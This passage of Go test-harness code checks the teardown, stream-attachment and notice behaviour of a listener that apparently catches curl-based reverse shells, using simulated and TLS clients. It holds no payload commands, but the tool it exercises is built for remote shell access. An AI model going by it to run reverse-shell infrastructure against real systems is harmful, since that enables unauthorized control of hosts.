		isNew := func(a *bk.Attempt, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				return e.Kind == "slog" && e.Att == a.ID && e.S == bk.MsgNew && (dir == "" || e.Dir == dir)
			}
		}
		// opLine: a notice about attempt a has been displayed
		opLine := func(a *bk.Attempt, text string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				return e.Kind == "op" && strings.HasPrefix(e.S, "["+a.Addr+"] ") && strings.Contains(e.S, text)
			}
		}
		// attached: the stream of the first shell is attached and every notice of its admission has been
		// displayed (it sends nothing more until it ends)
		nPre := 0
		attached := func(a *bk.Attempt) bool {
			nPre++
			if _, ok := waitEv(0, isNew(a, "")); !ok {
				inconc("a stream of the first shell was not attached")
				return false
			}
			last := "connected: ID"
			if nPre == 2 {
				last = iobroker.ShellReadyMessage
			}
			if _, ok := waitEv(0, opLine(a, last)); !ok {
				inconc("the notices of the first shell's admission were not displayed")
				return false
			}
			return true
		}
		attach := func(kind string) *bk.Attempt {
			a := w.NewAttempt(kind, "s", bk.WFlusher)
			a.Start()
			if !attached(a) {
				return nil
			}
			return a
		}

		// ---- the shell that is there before (if any) ----
		var pre []*bk.Attempt
		var holder *bk.Attempt
		if c.holder == "gone" {
			// the holder is a stream of the first shell itself: the one whose release section comes last
			holder = w.NewAttempt(c.hdir, "s", bk.WFlusher)
			holder.Gate("release", dirOf[c.hdir])
			holder.Start()
			if !attached(holder) {
				return
			}
		}
		switch c.pre {
		case "other":
			if a := attach(other[c.hdir]); a != nil {
				pre = append(pre, a)
			} else {
				return
			}
		case "same":
			if a := attach(c.hdir); a != nil {
				pre = append(pre, a)
			} else {
				return
			}
		}
		if c.holder == "gone" {
			// end the shell; the holder's direction stops right before its release section
			if len(pre) > 0 {
				pre[0].Cancel()
				select {
				case <-pre[0].Ret:
				case <-time.After(bk.Bound):
					viol("stream-does-not-end", "the first direction of the shell did not end after its context was cancelled")
					return
				}
			} else {
				holder.Cancel()
			}
			if _, ok := waitEv(0, func(e bk.Event) bool {
				return e.Kind == "parked" && e.Att == holder.ID && e.S == "release"
			}); !ok {
				viol("stream-does-not-end", "the other direction of the shell did not reach its tear-down without further traffic")
				return
			}
		}
		// every line so far has been displayed: the terminal is idle
		mark := fmt.Sprintf("LW-MARK-%d", i)
		select {
		case w.Och <- opshell.CLine{Line: mark}:
		case <-time.After(bk.Bound):
			inconc("marker line not accepted by the operator channel")
			return
		}
		if _, ok := waitEv(0, func(e bk.Event) bool { return e.Kind == "op" && e.S == mark }); !ok {
			inconc("marker line not seen on the operator channel")
			return
		}

		// ---- the terminal stalls behind a channel that is exactly full ----
		resume := w.StallOperator()
		defer resume()
		stallSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "stall"})
		for k := 0; k < c.och+1-c.room; k++ {
			select {
			case w.Och <- opshell.CLine{Line: fmt.Sprintf("LW-FILL-%d-%d", i, k)}:
			case <-time.After(bk.Bound):
				inconc("filler line not accepted by the operator channel")
				return
			}
		}

		// ---- party 1: the holder goes in and gets stuck on its notice ----
		var inside func(bk.Event) bool // a record the holder writes when it is already in the middle of it
		var notice string              // the notice it gets stuck on
		switch c.holder {
		case "gone":
			holder.Open("release", dirOf[c.hdir])
			inside = func(e bk.Event) bool { return e.Kind == "passed" && e.Att == holder.ID && e.S == "release" }
			notice = iobroker.ShellDisconnectedMessage
		case "readyio":
			holder = w.NewAttempt("io", "", bk.WFlusher)
			seen := 0
			inside = func(e bk.Event) bool {
				if isNew(holder, "")(e) {
					seen++
				}
				return seen == 2
			}
			notice = iobroker.ShellReadyMessage
			holder.Start()
		default:
			holder = w.NewAttempt(c.hdir, c.hkey, bk.WFlusher)
			switch c.holder {
			case "nokey":
				inside = func(e bk.Event) bool { return e.Kind == "slog" && e.Att == holder.ID && e.S == bk.MsgKeyMissing }
				notice = "Missing Key"
			case "refused":
				inside = func(e bk.Event) bool {
					return e.Kind == "slog" && e.Att == holder.ID && (e.S == bk.MsgKeyMissing || e.S == bk.MsgAlready || e.S == bk.MsgIncorrectKey)
				}
				notice = "Rejected"
				if c.hkey == "" {
					notice = "Missing Key"
				}
			case "connected":
				inside = isNew(holder, "")
				notice = "connected: ID"
			case "ready":
				inside = isNew(holder, "")
				notice = iobroker.ShellReadyMessage
			}
			holder.Start()
		}
		insideEv, ok := waitEv(stallSeq, inside)
		if !ok {
			inconc("the holder did not get as far as its notice")
			return
		}

		// ---- party 2 (and early newcomers): the shutdown, while the holder is stuck ----
		type nst struct {
			c newc
			a *bk.Attempt
		}
		var ncs []nst
		startNew := func(nc newc) bool {
			a := w.NewAttempt(nc.kind, nc.key, bk.WFlusher)
			ncs = append(ncs, nst{nc, a})
			from := w.Log.Len()
			a.Start()
			for _, d := range a.Dirs() {
				if _, ok := waitEv(from, func(e bk.Event) bool {
					return e.Kind == "hook" && e.Att == a.ID && e.S == "admit" && e.Dir == d
				}); !ok {
					inconc("a newcomer did not enter Connect")
					return false
				}
			}
			return true
		}
		for _, nc := range c.newc {
			if nc.early && !startNew(nc) {
				return
			}
		}
		time.Sleep(time.Duration(rng.IntN(3)) * time.Millisecond)
		w.Shutdown()
		time.Sleep(c.settle1)

		// ---- party 3: new streams arrive ----
		late := 0
		for _, nc := range c.newc {
			if !nc.early {
				if !startNew(nc) {
					return
				}
				late++
			}
		}
		time.Sleep(c.settle2)
		resumeSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "resume"})
		resume()

		// ---- what became of everybody ----
		stuckWait := false
		decided := func(a *bk.Attempt) {
			for _, d := range a.Dirs() {
				if _, ok := waitEv(0, func(e bk.Event) bool {
					return isNew(a, d)(e) || e.Kind == "hook" && e.Att == a.ID && e.S == "done" && e.Dir == d
				}); !ok {
					stuckWait = true
				}
			}
		}
		decided(holder)
		for _, s := range ncs {
			decided(s.a)
		}
		if stuckWait {
			inconc("after the terminal resumed, a Connect call neither attached its stream nor returned")
			return
		}
		all := append(append([]*bk.Attempt{holder}, pre...), func() (l []*bk.Attempt) {
			for _, s := range ncs {
				l = append(l, s.a)
			}
			return
		}()...)
		type sd struct {
			a   *bk.Attempt
			dir string
		}
		attachedNow := func() (l []sd) {
			evs := w.Log.Snapshot()
			for _, a := range all {
				for _, d := range a.Dirs() {
					att := false
					for _, e := range evs {
						if isNew(a, d)(e) {
							att = true
						}
						if e.Kind == "hook" && e.Att == a.ID && e.S == "release" && e.Dir == d {
							att = false
						}
					}
					if att {
						l = append(l, sd{a, d})
					}
				}
			}
			return
		}
		nAttNew := 0
		for _, s := range ncs {
			if _, ok := w.Log.Find(0, isNew(s.a, "")); ok {
				nAttNew++
			}
		}
		live := attachedNow()
		if len(live) > 0 {
			// something is attached: a Do that does not wait for it gets time to return
			select {
			case <-w.DoDone:
			case <-time.After(c.settle3):
			}
			// let data pass if it still can (whether it does is not this property's business)
			for _, s := range live {
				from := w.Log.Len()
				passed := false
				if s.dir == "input" {
					select {
					case w.Ich <- "lockwait-line":
					default:
					}
					_, passed = w.Log.Wait(from, 200*time.Millisecond, func(e bk.Event) bool {
						return e.Kind == "w" && e.Att == s.a.ID || e.Kind == "ret" && e.Att == s.a.ID
					})
				} else {
					s.a.Rd.PushData("lockwait-output\n")
					_, passed = w.Log.Wait(from, 200*time.Millisecond, func(e bk.Event) bool {
						return e.Kind == "r" && e.Att == s.a.ID && e.N > 0 || e.Kind == "ret" && e.Att == s.a.ID
					})
				}
				if passed {
					r.Count("lockwait_attached_streams_seen_passing_data_or_ending", 1)
				}
			}
		}

		// ---- end everything; Do must return now ----
		for _, a := range all {
			a.OpenAllGates()
			a.Cancel()
			a.CloseTransport()
		}
		stuck := false
		for _, a := range all {
			select {
			case <-a.Ret:
			case <-time.After(bk.Bound):
				stuck = true
				viol("stream-does-not-end", fmt.Sprintf("attempt %d did not return after its context was cancelled", a.ID))
			}
		}
		if !stuck {
			select {
			case <-w.DoDone:
			case <-time.After(bk.Bound):
				viol("shutdown-does-not-finish", "Do never returned after every stream ended")
			}
		}
		// every notice has been displayed
		endMark := fmt.Sprintf("LW-END-%d", i)
		marked := false
		select {
		case w.Och <- opshell.CLine{Line: endMark}:
			_, marked = waitEv(0, func(e bk.Event) bool { return e.Kind == "op" && e.S == endMark })
		case <-time.After(bk.Bound):
		}
		if !marked && !stuck {
			inconc("closing marker line not seen on the operator channel")
			return
		}

		// the schedule, from the log: the holder's notice had not been handed over when the terminal resumed
		held := false
		{
			k := 0
			for _, e := range w.Log.Snapshot()[stallSeq:] {
				if e.Kind != "op" {
					continue
				}
				k++
				if opLine(holder, notice)(e) {
					held = k >= c.och+2 && e.Seq > resumeSeq && insideEv.Seq < resumeSeq
					break
				}
			}
		}
		// ---- the oracle: Do's return comes after the release of every attached stream and after all I/O ----
		evs := w.Log.Snapshot()
		doSeq := -1
		released := map[int]bool{}
		for _, e := range evs {
			if e.Kind == "hook" && e.S == "release" && doSeq < 0 {
				released[e.Att] = true
			}
			if e.Kind == "do-ret" {
				doSeq = e.Seq
				continue
			}
			if doSeq < 0 {
				continue
			}
			switch {
			case e.Kind == "hook" && e.S == "release":
				viol("do-returned-with-stream-attached", fmt.Sprintf("Do returned (event #%d) while attempt %d's %s stream was still attached: it ended only at event #%d", doSeq, e.Att, e.Dir, e.Seq))
			case e.Kind == "slog" && e.S == bk.MsgNew:
				viol("do-returned-with-stream-attached", fmt.Sprintf("attempt %d was attached (event #%d) after Do had returned (event #%d)", e.Att, e.Seq, doSeq))
			case e.Kind == "r" && released[e.Att]:
				// a Read the stream's reader was already blocked in when the stream was
				// ended returns later, with whatever the harness pushes: not the broker reading
			case e.Kind == "w" || e.Kind == "r" && e.N > 0:
				viol("io-after-shutdown", fmt.Sprintf("I/O event %s after Do returned", e))
			}
		}
		// accounting: each attached stream ended once and said so once; the shell(s) that
		// existed were announced as gone, and nobody is announced as gone who was not there
		if !stuck && marked {
			nStreams, gone := 0, 0
			for _, a := range all {
				for _, d := range a.Dirs() {
					var nNew, nRel, nDisc int
					for _, e := range evs {
						switch {
						case isNew(a, d)(e):
							nNew++
						case e.Kind == "hook" && e.Att == a.ID && e.S == "release" && e.Dir == d:
							nRel++
						case e.Kind == "slog" && e.Att == a.ID && e.Dir == d && e.S == bk.MsgDisconnected:
							nDisc++
						}
					}
					nStreams += nNew
					if nNew > 1 || nRel != nNew {
						viol("attach-release-mismatch", fmt.Sprintf("attempt %d/%s: attached %d times, tear-down reached %d times", a.ID, d, nNew, nRel))
					}
					if nDisc != nNew {
						viol(fmt.Sprintf("disconnected-records-%d", nDisc), fmt.Sprintf("attempt %d/%s: %d Disconnected log records for %d attachments", a.ID, d, nDisc, nNew))
					}
				}
			}
			for _, e := range evs {
				if e.Kind == "op" && !e.Plain && strings.Contains(e.S, iobroker.ShellDisconnectedMessage) {
					gone++
				}
			}
			if (nStreams > 0 && gone == 0) || gone > nStreams {
				viol(fmt.Sprintf("gone-notices-%d", gone), fmt.Sprintf("%d shell-is-gone notices for %d attached streams in all", gone, nStreams))
			}
		}
		r.Eval(1)
		r.Count("lockwait_cases", 1)
		r.Count("lockwait_holder_"+c.holder, 1)
		if held {
			r.Count("lockwait_cases_holder_inside_across_shutdown_and_arrivals", 1)
			r.Count("lockwait_newcomers_arrived_after_shutdown_with_broker_busy", int64(late))
			nHeld.Add(1)
			nLate.Add(int64(late))
			if (c.holder == "nokey" || c.holder == "gone") && late == len(ncs) {
				// nothing is attached when the holder lets go: a newcomer that is attached now is the only stream there is
				r.Count("lockwait_cases_nothing_attached_when_holder_lets_go", 1)
				nBare.Add(1)
			}
		}
		r.Count("lockwait_newcomers", int64(len(ncs)))
		r.Count("lockwait_newcomers_attached", int64(nAttNew))
		nAtt.Add(int64(nAttNew))
		r.Distinct(fmt.Sprintf("lockwait %s %s pre=%s key=%q och=%d new=%v att=%d", c.holder, c.hdir, c.pre, c.hkey, c.och, c.newc, nAttNew))
		if i < 2 {
			r.Sample("lockwait", map[string]any{"case": fmt.Sprintf("%+v", c), "holder_inside_proven": held, "newcomers_attached": nAttNew, "log_tail": w.Log.Tail(16)})
		}
	})
	r.Logf("lockwait done: %d cases, holder inside across shutdown and arrivals in %d (nothing else attached in %d), %d newcomers after the shutdown, %d newcomers attached", n, nHeld.Load(), nBare.Load(), nLate.Load(), nAtt.Load())
	r.Floor("lockwait_cases", int64(n))
	r.Floor("lockwait_cases_holder_inside_across_shutdown_and_arrivals", int64(n*9/10))
	r.Floor("lockwait_cases_nothing_attached_when_holder_lets_go", int64(n*3/8))
	r.Floor("lockwait_newcomers_arrived_after_shutdown_with_broker_busy", int64(n))
	for _, h := range []string{"nokey", "gone", "connected", "refused"} {
		r.Floor("lockwait_holder_"+h, int64(n/8))
	}
}

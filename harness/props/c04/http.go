package c04

import (
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

func rst(c *hk.Conn) {
	if tc, ok := c.NetConn().(*net.TCPConn); ok {
		tc.SetLinger(0)
	}
	c.NetConn().Close()
}

// httpGenerations: the same tear-down guarantees with real clients over TLS:
// the endings are produced by closing, resetting or properly ending real
// connections; after each, one gone notice, the callback help once, every
// stream disconnected without further traffic, and the next shell works.
func httpGenerations(r *mon.Run) {
	n := r.N(24, 300)
	gensPer := r.N(25, 60)
	mon.Parallel(n, 8, func(i int) {
		if !r.Want("http", i) {
			return
		}
		rng := r.Rng("http", i)
		s, err := hk.Start(hk.Config{})
		if err != nil {
			r.Inconclusive("server: " + err.Error())
			return
		}
		defer s.Stop()
		var hist []string
		viol := func(key, what string) {
			r.Violate("http", i, key, what, map[string]any{"generations": hist, "log_tail": s.Log.Tail(30)})
		}
		// the start-up help must be out before the first window opens
		s.Log.Wait(0, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "--pinnedpubkey") })
		from, _ := s.Mark(fmt.Sprintf("MARK-%d-start", i))
		for g := 0; g < gensPer; g++ {
			bidir := rng.IntN(3) == 0
			attach := []string{"full", "full", "in-only", "out-only"}[rng.IntN(4)]
			if bidir {
				attach = "full"
			}
			ending := []string{"close-in", "close-out", "end-out", "rst-in", "rst-out", "close-both"}[rng.IntN(6)]
			if attach == "in-only" {
				ending = []string{"close-in", "rst-in"}[rng.IntN(2)]
			}
			if attach == "out-only" {
				ending = []string{"close-out", "end-out", "rst-out"}[rng.IntN(3)]
			}
			load := []string{"idle", "outflood", "inburst"}[rng.IntN(3)]
			desc := fmt.Sprintf("bidir=%v attach=%s load=%s ending=%s", bidir, attach, load, ending)
			hist = append(hist, desc)
			id := fmt.Sprintf("g%d-%d", i, g)
			var in *crs.InStream
			var out *crs.OutStream
			if bidir {
				io, err := crs.OpenIO(s.Addr)
				if err != nil {
					r.Inconclusive(err.Error())
					return
				}
				in, out = io.In, io.Out
			} else {
				if attach != "out-only" {
					if in, err = crs.OpenIn(s.Addr, "/i/"+id); err != nil {
						r.Inconclusive(err.Error())
						return
					}
				}
				if attach != "in-only" {
					if out, err = crs.OpenOut(s.Addr, "/o/"+id); err != nil {
						r.Inconclusive(err.Error())
						return
					}
				}
			}
			// the fresh shell must be accepted and working
			wantConn := 1
			if attach == "full" {
				wantConn = 2
			}
			nc := 0
			if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
				if e.Kind == "json" && strings.Contains(e.S, `"msg":"New connection"`) {
					nc++
				}
				return nc >= wantConn
			}); !ok {
				viol("fresh-shell-refused", fmt.Sprintf("generation %d (%s): the new shell was not attached after the previous one had gone", g, desc))
				return
			}
			if in != nil {
				l := fmt.Sprintf("probe-%d-%d", i, g)
				s.Ich <- l
				if got, err := in.ReadLine(hk.Bound); err != nil || got != l {
					viol("live-input-not-fed", fmt.Sprintf("generation %d (%s): probe line did not reach the new shell: %q %v", g, desc, got, err))
					return
				}
			}
			if out != nil {
				tok := fmt.Sprintf("TOK-%d-%d;", i, g)
				out.Send(tok)
				if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) }); !ok {
					viol("live-output-not-shown", fmt.Sprintf("generation %d (%s): output of the new shell was not shown", g, desc))
					return
				}
			}
			switch load {
			case "outflood":
				if out != nil {
					for k := 0; k < 40; k++ {
						out.Send(strings.Repeat("f", 1500))
					}
				}
			case "inburst":
				if in != nil {
					for k := 0; k < 10; k++ {
						s.Ich <- fmt.Sprintf("burst-%d", k)
					}
				}
			}
			// the ending, produced by the client
			switch ending {
			case "close-in":
				in.Close()
			case "close-out":
				out.Close()
			case "end-out":
				out.End()
			case "rst-in":
				rst(in.C)
			case "rst-out":
				rst(out.C)
			case "close-both":
				in.Close()
				if !bidir {
					out.Close()
				}
			}
			// without further traffic: gone notice, help re-printed, every stream disconnected
			gev, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
			if !ok {
				viol("shell-not-torn-down", fmt.Sprintf("generation %d (%s): after the client's %s no gone notice appeared (the other direction was not ended)", g, desc, ending))
				return
			}
			if _, ok := s.Log.Wait(gev.Seq, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "To get a shell:") }); !ok {
				viol("callback-help-not-reprinted", fmt.Sprintf("generation %d: the callback help was not printed again after the shell had gone", g))
				return
			}
			deadline := time.Now().Add(hk.Bound)
			idle := false
			for time.Now().Before(deadline) {
				c, d := 0, 0
				for _, e := range s.Log.Snapshot()[from:] {
					if e.Kind == "json" {
						if strings.Contains(e.S, `"msg":"New connection"`) {
							c++
						} else if strings.Contains(e.S, `"msg":"Disconnected"`) {
							d++
						}
					}
				}
				if c == d {
					idle = true
					break
				}
				time.Sleep(2 * time.Millisecond)
			}
			if !idle {
				viol("stream-left-attached", fmt.Sprintf("generation %d (%s): a stream is still attached although the shell is gone", g, desc))
				return
			}
			if in != nil {
				in.Close()
			}
			if out != nil {
				out.Close()
			}
			// drain lines the burst left queued (the next shell would get them; that is C02's business)
			for len(s.Ich) > 0 {
				select {
				case <-s.Ich:
				default:
				}
			}
			to, _ := s.Mark(fmt.Sprintf("MARK-%d-%d", i, g))
			gone, help := 0, 0
			for _, e := range s.OpLines(from, to) {
				if strings.Contains(e.S, "Shell is gone") {
					gone++
				}
				if strings.Contains(e.S, "To get a shell:") {
					help++
				}
			}
			if gone != 1 {
				viol(fmt.Sprintf("gone-notices-%d", gone), fmt.Sprintf("generation %d (%s): %d gone notices", g, desc, gone))
			}
			if help != 1 {
				viol(fmt.Sprintf("callback-help-printed-%d-times", help), fmt.Sprintf("generation %d (%s): callback help printed %d times after one shell", g, desc, help))
			}
			from = to
			r.Eval(1)
			r.Count("http_generations", 1)
			r.Count("http_ending:"+ending, 1)
			r.Distinct("http|" + desc)
		}
		if i == 0 {
			r.Sample("http", map[string]any{"generations": hist})
		}
	})
	r.Floor("http_generations", int64(n*gensPer*8/10))
}

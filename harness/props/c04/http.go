package c04

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

func rst(c *hk.Conn) {
	if tc, ok := c.NetConn().(*net.TCPConn); ok {
		tc.SetLinger(0)
	}
	c.NetConn().Close()
}

// isTimeout reports whether a read ended because the harness's own deadline expired.
func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

// outputRequestEnded watches, from the client's side and without sending
// anything, what the server does with a request whose body the client has not
// finished: it reports how the request ended (the response arrived complete, or
// the server let go of the connection), or "" if neither happened within d.
func outputRequestEnded(c *hk.Conn, d time.Duration) string {
	c.SetReadDeadline(time.Now().Add(d))
	defer c.SetReadDeadline(time.Time{})
	resp, err := http.ReadResponse(c.R, &http.Request{Method: "POST"})
	if err != nil {
		if isTimeout(err) {
			return ""
		}
		return "connection-released"
	}
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		if isTimeout(err) {
			return ""
		}
		return "connection-released"
	}
	return "response-complete"
}

// inputRequestEnded does the same for the response that carries operator
// input: it must come to its end (or the connection be let go of).
func inputRequestEnded(in *crs.InStream, d time.Duration) string {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		_, err := in.ReadLine(time.Until(deadline))
		switch {
		case err == nil:
			continue // a line that was still on its way
		case err == io.EOF:
			return "response-complete"
		case isTimeout(err):
			return ""
		default:
			return "connection-released"
		}
	}
	return ""
}

var httpSideRe = regexp.MustCompile(`net/http\.\(\*(conn|connReader|response|body|chunkWriter)\)\.[A-Za-z]+|internal/hsrv\.\(\*Server\)\.(inputHandler|outputHandler|inOutHandler|abandon[A-Za-z]+)`)

// httpGoroutines returns the stacks of goroutines that serve a connection of
// the in-process HTTP server (net/http's per-connection goroutines and the
// shell handlers); the harness's own clients use raw TLS and have none.
func httpGoroutines() []string {
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			buf = buf[:n]
			break
		}
		buf = make([]byte, 2*len(buf))
	}
	var out []string
	for _, g := range strings.Split(string(buf), "\n\n") {
		if strings.Contains(g, "net/http.(*conn).serve") || strings.Contains(g, "net/http.(*connReader).backgroundRead") || strings.Contains(g, "internal/hsrv.(*Server).inputHandler") || strings.Contains(g, "internal/hsrv.(*Server).outputHandler") || strings.Contains(g, "internal/hsrv.(*Server).inOutHandler") {
			out = append(out, g)
		}
	}
	return out
}

func httpLeakKey(stack string) string {
	if m := httpSideRe.FindString(stack); m != "" {
		return "goroutine-left-behind:" + m[strings.LastIndex(m, "/")+1:]
	}
	return "goroutine-left-behind:http"
}

const littleOutstanding = 256 << 10 // what net/http is prepared to wait for by itself after a handler is done

// httpGenerations: the same tear-down guarantees with real clients over TLS:
// the endings are produced by closing, resetting or properly ending real
// connections; after each, one gone notice, the callback help once, every
// stream disconnected without further traffic, and the next shell works.
// The shell's output is a chunked upload, an upload with a declared length of
// which little is outstanding when the shell ends, or one with much
// outstanding; whichever request the client has not dropped itself must be
// seen ended by the server from the client's side, without the client sending
// anything more.
func httpGenerations(r *mon.Run) {
	n := r.N(24, 300)
	gensPer := r.N(25, 60)
	mon.Parallel(n, 8, func(i int) {
		if !r.Want("http", i) {
			return
		}
		httpSeries(r, "http", i, gensPer, false)
	})
	r.Floor("http_generations", int64(n*gensPer*8/10))
	for _, c := range []string{"chunked", "len-little", "len-much"} {
		r.Floor("http_out_class:"+c, int64(n*gensPer/20))
	}
	r.Floor("http_client_saw_request_ended:input", int64(n*gensPer/30))
	r.Floor("http_client_saw_request_ended:output-chunked", int64(n*gensPer/60))
	r.Floor("http_client_saw_request_ended:output-len-little", int64(n*gensPer/60))
	r.Floor("http_client_saw_request_ended:output-len-much", int64(n*gensPer/60))
	r.Floor("http_input_ended_first_with_declared_length_upload_stalled", int64(n*gensPer/100))
}

// httpSerialCounts is how many series (and shells each) the serial child
// processes run with the goroutine scan.
func httpSerialCounts(r *mon.Run) (n, gensPer int) { return r.N(16, 96), r.N(10, 30) }

// httpSeries runs one server and gensPer shells in series against it.  With
// scan (serial child processes only: the harness and the server share the
// process) the goroutines serving the server's connections are looked for
// once the clients have closed theirs.
func httpSeries(r *mon.Run, engine string, i, gensPer int, scan bool) {
	rng := r.Rng(engine, i)
	s, err := hk.Start(hk.Config{})
	if err != nil {
		r.Inconclusive("server: " + err.Error())
		return
	}
	defer s.Stop()
	var hist []string
	viol := func(key, what string) {
		r.Violate(engine, i, key, what, map[string]any{"generations": hist, "log_tail": s.Log.Tail(30)})
	}
	// the start-up help must be out before the first window opens
	s.Log.Wait(0, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "--pinnedpubkey") })
	from, _ := s.Mark(fmt.Sprintf("MARK-%s-%d-start", engine, i))
	for g := 0; g < gensPer; g++ {
		bidir := rng.IntN(3) == 0
		attach := []string{"full", "full", "in-only", "out-only"}[rng.IntN(4)]
		if bidir {
			attach = "full"
		}
		ending := []string{"close-in", "close-out", "end-out", "rst-in", "rst-out", "close-both"}[rng.IntN(6)]
		if attach == "in-only" {
			ending = []string{"close-in", "rst-in"}[rng.IntN(2)]
		}
		if attach == "out-only" {
			ending = []string{"close-out", "end-out", "rst-out"}[rng.IntN(3)]
		}
		load := []string{"idle", "outflood", "inburst"}[rng.IntN(3)]
		// how the shell's output travels: a chunked upload (the stock script), or an upload with a
		// declared length of which little / much is still outstanding when the shell ends
		class := []string{"chunked", "len-little", "len-much"}[rng.IntN(3)]
		var outstanding int64
		switch class {
		case "len-little":
			outstanding = []int64{1, 1 + rng.Int64N(4096), 1 + rng.Int64N(littleOutstanding), littleOutstanding}[rng.IntN(4)]
		case "len-much":
			outstanding = littleOutstanding + 1 + rng.Int64N(32<<10)
			if ending != "end-out" && rng.IntN(2) == 0 {
				outstanding = []int64{littleOutstanding + 1 + rng.Int64N(1<<20), 1 << 40}[rng.IntN(2)]
			}
		}
		if attach == "in-only" {
			class, outstanding = "none", 0
		}
		id := fmt.Sprintf("g%d-%d", i, g)
		tok := fmt.Sprintf("TOK-%d-%d;", i, g)
		const floodChunks, floodChunk = 40, 1500
		planned := int64(len(tok))
		if load == "outflood" {
			planned += floodChunks * floodChunk
		}
		declared := planned + outstanding
		desc := fmt.Sprintf("bidir=%v attach=%s load=%s ending=%s output=%s", bidir, attach, load, ending, class)
		if class == "len-little" || class == "len-much" {
			hist = append(hist, fmt.Sprintf("%s (Content-Length %d, %d outstanding)", desc, declared, outstanding))
		} else {
			hist = append(hist, desc)
		}
		var in *crs.InStream
		var out *crs.OutStream
		var sent int64
		send := func(data string) {
			out.Send(data)
			sent += int64(len(data))
		}
		if bidir {
			var ios *crs.IOStream
			if class == "chunked" {
				ios, err = crs.OpenIO(s.Addr)
			} else {
				ios, err = crs.OpenIOLen(s.Addr, declared)
			}
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			in, out = ios.In, ios.Out
		} else {
			if attach != "out-only" {
				if in, err = crs.OpenIn(s.Addr, "/i/"+id); err != nil {
					r.Inconclusive(err.Error())
					return
				}
			}
			if attach != "in-only" {
				if class == "chunked" {
					out, err = crs.OpenOut(s.Addr, "/o/"+id)
				} else {
					out, err = crs.OpenOutLen(s.Addr, "/o/"+id, declared)
				}
				if err != nil {
					r.Inconclusive(err.Error())
					return
				}
			}
		}
		closeAll := func() {
			if in != nil {
				in.Close()
			}
			if out != nil {
				out.Close()
			}
		}
		// the fresh shell must be accepted and working
		wantConn := 1
		if attach == "full" {
			wantConn = 2
		}
		nc := 0
		if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
			if e.Kind == "json" && strings.Contains(e.S, `"msg":"New connection"`) {
				nc++
			}
			return nc >= wantConn
		}); !ok {
			viol("fresh-shell-refused", fmt.Sprintf("generation %d (%s): the new shell was not attached after the previous one had gone", g, desc))
			closeAll()
			return
		}
		if in != nil {
			l := fmt.Sprintf("probe-%d-%d", i, g)
			s.Ich <- l
			if got, err := in.ReadLine(hk.Bound); err != nil || got != l {
				viol("live-input-not-fed", fmt.Sprintf("generation %d (%s): probe line did not reach the new shell: %q %v", g, desc, got, err))
				closeAll()
				return
			}
		}
		if out != nil {
			send(tok)
			if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) }); !ok {
				viol("live-output-not-shown", fmt.Sprintf("generation %d (%s): output of the new shell was not shown", g, desc))
				closeAll()
				return
			}
		}
		switch load {
		case "outflood":
			if out != nil {
				for k := 0; k < floodChunks; k++ {
					send(strings.Repeat("f", floodChunk))
				}
			}
		case "inburst":
			if in != nil {
				for k := 0; k < 10; k++ {
					s.Ich <- fmt.Sprintf("burst-%d", k)
				}
			}
		}
		// the ending, produced by the client; afterwards the client sends nothing more
		inOpen, outOpen := in != nil, out != nil && !bidir // requests the client has not dropped itself (/io is one request: the input's)
		switch ending {
		case "close-in":
			in.Close()
			inOpen = false
		case "close-out":
			out.Close()
			outOpen = false
			inOpen = inOpen && !bidir
		case "end-out":
			// the output stream ends by itself: the last chunk, or the last of the declared bytes
			if out.Fixed {
				out.Send(strings.Repeat("z", int(declared-sent)))
			} else {
				out.End()
			}
		case "rst-in":
			rst(in.C)
			inOpen = false
		case "rst-out":
			rst(out.C)
			outOpen = false
			inOpen = inOpen && !bidir
		case "close-both":
			in.Close()
			if !bidir {
				out.Close()
			}
			inOpen, outOpen = false, false
		}
		// without further traffic: gone notice, help re-printed, every stream disconnected
		gev, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
		if !ok {
			viol("shell-not-torn-down", fmt.Sprintf("generation %d (%s): after the client's %s no gone notice appeared (the other direction was not ended)", g, desc, ending))
			closeAll()
			return
		}
		if _, ok := s.Log.Wait(gev.Seq, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "To get a shell:") }); !ok {
			viol("callback-help-not-reprinted", fmt.Sprintf("generation %d: the callback help was not printed again after the shell had gone", g))
			closeAll()
			return
		}
		deadline := time.Now().Add(hk.Bound)
		idle := false
		for time.Now().Before(deadline) {
			c, d := 0, 0
			for _, e := range s.Log.Snapshot()[from:] {
				if e.Kind == "json" {
					if strings.Contains(e.S, `"msg":"New connection"`) {
						c++
					} else if strings.Contains(e.S, `"msg":"Disconnected"`) {
						d++
					}
				}
			}
